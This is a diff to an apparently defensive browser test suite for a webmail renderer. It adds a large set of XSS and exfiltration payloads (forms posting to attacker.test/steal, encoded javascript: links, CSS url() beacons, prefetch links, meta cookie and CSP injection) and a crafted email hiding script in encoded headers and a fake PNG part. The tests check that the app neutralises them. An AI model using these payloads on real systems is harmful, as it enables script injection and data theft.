@@ -76,6 +76,56 @@ PAYLOADS: dict[str, str] = {
                 f"<title><img src=x onerror=\"{js('title')}\"></title>"
                 f"<!--><img src=x onerror=\"{js('comment')}\">-->"
                 f"<xmp><img src=x onerror=\"{js('xmp')}\"></xmp>",
+    "forms-frames-objects": "<form id=f1 action=\"http://attacker.test/steal\" method=post><input name=pw value=secret>"
+                            "<button id=b2>click-10</button></form>"
+                            "<button form=f1 formaction=\"http://attacker.test/formaction\">click-11</button>"
+                            "<isindex action=\"http://attacker.test/isindex\">"
+                            "<iframe src=\"http://attacker.test/frame\"></iframe>"
+                            f"<iframe src=\"data:text/html,<script>{js('iframedata')}</script>\"></iframe>"
+                            "<object data=\"http://attacker.test/object\" type=text/html></object>"
+                            "<embed src=\"http://attacker.test/embed\" type=text/html>"
+                            "<applet code=\"X.class\" codebase=\"http://attacker.test/applet\"></applet>"
+                            "<frameset><frame src=\"http://attacker.test/frameset\"></frameset>"
+                            "<portal src=\"http://attacker.test/portal\"></portal>"
+                            "<a id=p1 href=\"mailto:a@b.example\" ping=\"http://attacker.test/ping\">click-12</a>",
+    "encoded-variants": f"<a id=e1 href=\"javascript&colon;{js('colon')}\">click-13</a>"
+                        f"<a id=e2 href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js('hexnosemi')}\">click-14</a>"
+                        f"<a id=e3 href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{js('decpad')}\">click-15</a>"
+                        f"<a id=e4 href=\"java\nscript:{js('newline')}\">click-16</a>"
+                        f"<img/src=x/onerror=\"{js('slash')}\"><svg/onload=\"{js('svgslash')}\">"
+                        f"<ScRiPt>{js('mixedcase')}</sCrIpT>"
+                        f"<IMG \"\"\"><SCRIPT>{js('quotes')}</SCRIPT>\">"
+                        "<img src=\"h&#x74;tp://attacker.test/entity-scheme\">"
+                        "<img src=\"HTTP://ATTACKER.TEST/upper\">"
+                        "<img src=\"  http://attacker.test/spaces\">"
+                        "<img src=\"\\\\attacker.test\\unc.png\"><img src=\"/\\attacker.test/slash-backslash.png\">"
+                        "<img src=\"https:attacker.test/no-slashes\">"
+                        "<div style=\"background:url(&#34;http://attacker.test/quot&#34;)\">q</div>"
+                        "<div style=\"background:\\75 rl(http://attacker.test/esc2)\">e2</div>"
+                        "<div style=\"background:u/**/rl(http://attacker.test/comment)\">c</div>"
+                        "%3Cscript%3Ealert(1)%3C/script%3E",
+    "style-blocks-and-links": "<style>@font-face{font-family:x;src:url(http://attacker.test/font.woff)}"
+                              ".a{background:url(http://attacker.test/class-bg)} p{font-family:x}</style>"
+                              "<div class=a><p>styled</p></div>"
+                              "<div style=\"cursor:url(http://attacker.test/cursor),auto\">cur</div>"
+                              "<div style=\"border-image:url(http://attacker.test/border) 30\">bi</div>"
+                              "<div style=\"list-style-image:url(http://attacker.test/li)\">li</div>"
+                              "<div style=\"background:image-set('http://attacker.test/imgset.png' 1x)\">is</div>"
+                              "<div style=\"content:url(http://attacker.test/content)\">ct</div>"
+                              "<div style=\"font: 12px x; background-image: url(data:image/svg+xml;base64,"
+                              + b64(SVG_SCRIPT) + ")\">svgbg</div>"
+                              "<link rel=prefetch href=\"http://attacker.test/prefetch\">"
+                              "<link rel=preload as=image href=\"http://attacker.test/preload\">"
+                              "<link rel=icon href=\"http://attacker.test/favicon.ico\">"
+                              "<link rel=dns-prefetch href=\"//attacker.test\">"
+                              "<meta http-equiv=\"set-cookie\" content=\"sessionid=attacker\">"
+                              "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">"
+                              "<body background=\"http://attacker.test/body-bg\"><td background=\"http://attacker.test/td-bg\">",
+    "svg-extras": "<svg><image href=\"http://attacker.test/svg-image\"/>"
+                  f"<use href=\"data:image/svg+xml;base64,{b64(SVG_SCRIPT)}#x\"/>"
+                  f"<set attributeName=onload to=\"{js('svgset')}\"/>"
+                  "<feImage href=\"http://attacker.test/feimage\"/></svg>"
+                  "<video src=\"http://attacker.test/video\" autoplay><track src=\"http://attacker.test/track\"></video>",
 }
 
 
@@ -256,4 +306,65 @@ def test_pages_respect_their_own_policy_on_desktop_and_phone(chromium, live_serv
         screenshot(page, f"detail-{label}")
     assert not [c for c in watch.console if "Content Security Policy" in c or "Refused" in c], watch.console
     assert watch.outside == [] and watch.dialogs == []
+    context.close()
+
+
+def encoded_headers_mail() -> bytes:
+    """Markup hidden in RFC 2047 headers, an RFC 2231 file name, a charset name (it ends up
+    in the parse problems), and an "image/png" inline part that is really HTML with script."""
+    def word(text: str) -> str:
+        return f"=?utf-8?b?{b64(text)}?="
+
+    fake_png = f"<html><body><script>{js('fakepng')}</script><img src=x onerror=\"{js('fakepng2')}\"></body></html>"
+    svg_name = "%3Csvg%20onload%3D%22alert(1)%22%3E.svg"
+    return (
+        f"From: {word('<svg onload=' + js('from2047') + '>')} <evil@attacker.test>\r\n"
+        "To: victim@example.com\r\n"
+        f"Subject: {word('<img src=x onerror=' + js('subj2047') + '>')}\r\n"
+        "Date: Tue, 03 Nov 2026 10:00:00 +0000\r\n"
+        "MIME-Version: 1.0\r\n"
+        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
+        "--b1\r\n"
+        f"Content-Type: text/plain; charset=\"<img src=x onerror={js('charset')}>\"\r\n\r\n"
+        "text with a hostile charset name\r\n"
+        "--b1\r\n"
+        "Content-Type: text/html; charset=utf-8\r\n\r\n"
+        '<p>hello <img src="cid:fake-png@x" alt="fake"></p>\r\n'
+        "--b1\r\n"
+        "Content-Type: image/png\r\nContent-ID: <fake-png@x>\r\nContent-Disposition: inline\r\n"
+        f"Content-Transfer-Encoding: base64\r\n\r\n{b64(fake_png)}\r\n"
+        "--b1\r\n"
+        "Content-Type: image/svg+xml\r\n"
+        f"Content-Disposition: attachment; filename*=utf-8''{svg_name}\r\n"
+        f"Content-Transfer-Encoding: base64\r\n\r\n{b64(SVG_SCRIPT)}\r\n"
+        "--b1--\r\n"
+    ).encode()
+
+
+def test_encoded_headers_names_and_lying_inline_parts(chromium, live_server, tenants):
+    message = mailfactory.store(connection=tenants["conn_a"], raw=encoded_headers_mail())
+    context, page, watch = render(chromium, live_server, tenants["alice"], message, name="encoded-headers")
+    # Decoded, and shown as text.
+    assert page.inner_text("h1").startswith("<img src=x onerror=")
+    assert "<svg onload=" in page.inner_text("dl.headers")
+    assert "<svg onload=\"alert(1)\">.svg" in page.locator(".attachments").inner_text()
+    # The unknown charset's name is quoted in the parse problems: as text, never as markup.
+    assert "<img src=x onerror=" in page.locator(".problems").inner_text()
+    assert "<img" not in page.locator(".problems").inner_html()
+    screenshot(page, "xss-encoded-headers")
+    assert_clean(page, watch, "encoded headers")
+    # The lying "image/png" opened directly: served as image/png, nosniff, sandboxed; nothing runs.
+    fake = message.attachments.get(content_id__icontains="fake-png")
+    direct = context.new_page()
+    response = direct.goto(live_server.url + reverse("messages:inline", args=[message.pk, fake.pk]), wait_until="load")
+    assert response.headers["content-type"] == "image/png"
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert "sandbox" in response.headers["content-security-policy"]
+    direct.wait_for_timeout(200)
+    assert_clean(direct, watch, "inline part opened directly")
+    # The SVG attachment downloads under a safe name; never shown.
+    with page.expect_download() as download:
+        page.locator(".attachments a", has_text="svg onload").click()
+    assert "<" not in download.value.suggested_filename and download.value.suggested_filename.endswith(".svg")
+    assert_clean(page, watch, "svg download")
     context.close()
